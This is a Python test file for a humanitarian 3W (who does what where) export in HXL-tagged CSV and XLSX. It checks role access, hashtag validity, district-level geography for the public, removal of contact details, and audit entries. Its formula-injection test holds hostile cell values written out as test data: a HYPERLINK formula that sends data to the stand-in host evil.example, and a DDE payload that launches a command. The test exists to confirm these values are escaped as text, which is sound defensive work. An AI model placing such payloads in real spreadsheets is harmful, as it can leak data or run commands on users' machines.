"""Who does what where as HXL-tagged CSV and XLSX: who is refused, a valid HXL hashtag row, no place finer than
admin level 2 in the publication, no contact details, formula injection, one audit entry."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

from hifazat.accounts.models import Organisation
from hifazat.core.audit import Actor
from hifazat.core.models import AuditEntry
from hifazat.core.roles import Role
from hifazat.core.testing import HifazatTestCase
from hifazat.geography.models import AdminArea, Site
from hifazat.referrals import directory_services

# HXL 1.1 core hashtags (hxlstandard.org, "HXL hashtag dictionary", the released ones).
HXL_CORE_HASHTAGS = {
    "#access", "#activity", "#adm1", "#adm2", "#adm3", "#adm4", "#adm5", "#affected", "#beneficiary", "#capacity",
    "#cause", "#channel", "#contact", "#country", "#crisis", "#currency", "#date", "#description", "#event",
    "#frequency", "#geo", "#group", "#impact", "#indicator", "#inneed", "#item", "#loc", "#meta", "#modality",
    "#need", "#operations", "#org", "#output", "#population", "#reached", "#region", "#respondee", "#sector",
    "#service", "#severity", "#status", "#subsector", "#targeted", "#value",
}  # fmt: skip
# HXL 1.1 syntax: a hashtag, then attributes, each a lower-case letter followed by letters, digits or "_".
HXL_TAGSPEC = re.compile(r"#[a-z][a-z0-9_]*(\s*\+[a-z][a-z0-9_]*)*")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class WhoWhatWhereTests(HifazatTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        country = AdminArea.objects.create(pcode="PK", name="Pakistan", level=0)
        nwfp = AdminArea.objects.create(
            pcode="PK6", name="North West Frontier Province", level=1, parent=country
        )
        cls.mansehra = AdminArea.objects.create(pcode="PK604", name="Mansehra", level=2, parent=nwfp)
        cls.balakot = AdminArea.objects.create(pcode="PK60401", name="Balakot", level=3, parent=cls.mansehra)
        cls.camp = Site.objects.create(
            code="MAN-BLK",
            name="Balakot Camp",
            site_type="relief_camp",
            area=cls.balakot,
            managing_organisation=cls.org_b,
        )
        host = Actor.for_user(cls.a[Role.ADMINISTRATOR])
        cls.safe_house = directory_services.provider_create(
            actor=host,
            organisation=cls.org_a,
            name="Women's safe house, Balakot",
            services=["shelter", "psychosocial"],
            areas=[cls.balakot],
            contact_person="Shazia Parveen",
            phone="0997-300123",
            email="safehouse@example.org",
            address="House 12, Kaghan Road, Balakot",
            hours="Always open",
        )
        cls.clinic = directory_services.provider_create(
            actor=host,
            organisation=cls.org_b,
            name="Mansehra district hospital",
            services=["medical"],
            areas=[cls.mansehra],
            accepting_referrals=False,
        )

    def download(self, role=Role.ANALYST, **query):
        return self.client_for(self.a[role]).get("/reporting/exports/who-what-where/", query)

    def table(self, **query) -> list[list[str]]:
        response = self.download(**query)
        self.assertEqual(response.status_code, 200)
        if query.get("file_format") == "csv":
            return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
        book = load_workbook(io.BytesIO(response.content))
        self.assertEqual(book.sheetnames, ["3W", "README"])
        return [["" if v is None else v for v in row] for row in book["3W"].iter_rows(values_only=True)]

    def test_who_is_refused(self) -> None:
        self.assertEqual(self.client.get("/reporting/exports/who-what-where/").status_code, 302)
        allowed = {Role.ADMINISTRATOR, Role.SUPERVISOR, Role.ANALYST}
        for role in Role:
            self.assertEqual(self.download(role).status_code, 200 if role in allowed else 403, role)
        self.assertEqual(self.download(file_format="pdf").status_code, 400)

    def test_the_second_row_holds_valid_hxl_hashtags(self) -> None:
        for file_format in ("xlsx", "csv"):
            for audience in ("public", "partners"):
                rows = self.table(file_format=file_format, audience=audience)
                headers, tags = rows[0], rows[1]
                self.assertEqual(len(headers), len(tags))
                self.assertTrue(all(h and not h.startswith("#") for h in headers))
                for tag in tags:
                    self.assertRegex(tag, HXL_TAGSPEC)
                    self.assertIn(tag.split("+")[0], HXL_CORE_HASHTAGS, tag)
                for needed in ("#org+name", "#sector+cluster+name", "#adm1+name", "#adm2+name", "#adm2+code"):
                    self.assertIn(needed, tags)
                self.assertEqual(len(set(tags)), len(tags))

    def test_the_publication_names_no_place_finer_than_a_district(self) -> None:
        rows = self.table(file_format="csv", audience="public")
        text = "\n".join(",".join(row) for row in rows)
        for finer in ("Balakot", "PK60401", "#adm3", "#loc", "MAN-BLK", "safe house"):
            self.assertNotIn(finer, text)
        data = [dict(zip(rows[1], row, strict=True)) for row in rows[2:]]
        self.assertEqual({r["#adm2+code"] for r in data}, {"PK604"})
        shelter = [r for r in data if r["#activity+code"] == "shelter"]
        self.assertEqual(
            [(r["#org+name"], r["#sector+cluster+name"]) for r in shelter], [("Organisation A", "Shelter")]
        )
        managed = [r for r in data if r["#activity+code"] == "site_management"]
        self.assertEqual([r["#org+name"] for r in managed], ["Organisation B"])
        self.assertEqual({r["#status+referrals"] for r in data if r["#activity+code"] == "medical"}, {"no"})

    def test_partners_see_service_points_sites_and_tehsils_but_never_contact_details(self) -> None:
        rows = self.table(file_format="csv", audience="partners")
        text = "\n".join(",".join(row) for row in rows)
        self.assertIn("Women's safe house, Balakot", text)
        self.assertIn("Balakot Camp", text)
        self.assertIn("PK60401", text)
        for contact in ("Shazia", "0997", "example.org", "Kaghan Road", "Always open"):
            self.assertNotIn(contact, text)
        self.assertEqual(len(rows) - 2, 4)  # two services and one hospital service, and one site

    def test_names_a_spreadsheet_would_run_are_written_as_text(self) -> None:
        hostile = {"Organisation A": FORMULA, "Organisation B": "@SUM(1+1)"}
        for name, replacement in hostile.items():
            Organisation.objects.filter(name=name).update(name=replacement, short_name="+cmd")
        AdminArea.objects.filter(pcode="PK604").update(name="-2+3+cmd|' /C calc'!A0")
        AdminArea.objects.filter(pcode="PK6").update(name="\tNWFP")
        response = self.download(file_format="xlsx", audience="public")
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for row in book["3W"].iter_rows(min_row=3) for cell in row]
        self.assertFalse(any(cell.data_type == "f" for cell in cells))
        values = {cell.value for cell in cells}
        for expected in ("'" + FORMULA, "'@SUM(1+1)", "'+cmd", "'-2+3+cmd|' /C calc'!A0", "'\tNWFP"):
            self.assertIn(expected, values)
        rows = self.table(file_format="csv", audience="public")
        self.assertIn("'" + FORMULA, [cell for row in rows for cell in row])

    def test_each_download_is_one_audit_entry_with_hashtags_and_counts_only(self) -> None:
        response = self.download(file_format="xlsx", audience="partners")
        self.assertEqual(response["Content-Type"], XLSX)
        self.assertIn("attachment;", response["Content-Disposition"])
        entries = AuditEntry.objects.filter(
            action=AuditEntry.Action.EXPORT, object_type="reporting.who_what_where"
        )
        self.assertEqual(entries.count(), 1)
        detail = entries.get().detail
        self.assertEqual((detail["rows"], detail["public"], detail["format"]), (4, False, "xlsx"))
        self.assertIn("#org+name", detail["fields"])
        self.assertNotIn("safe house", str(detail))
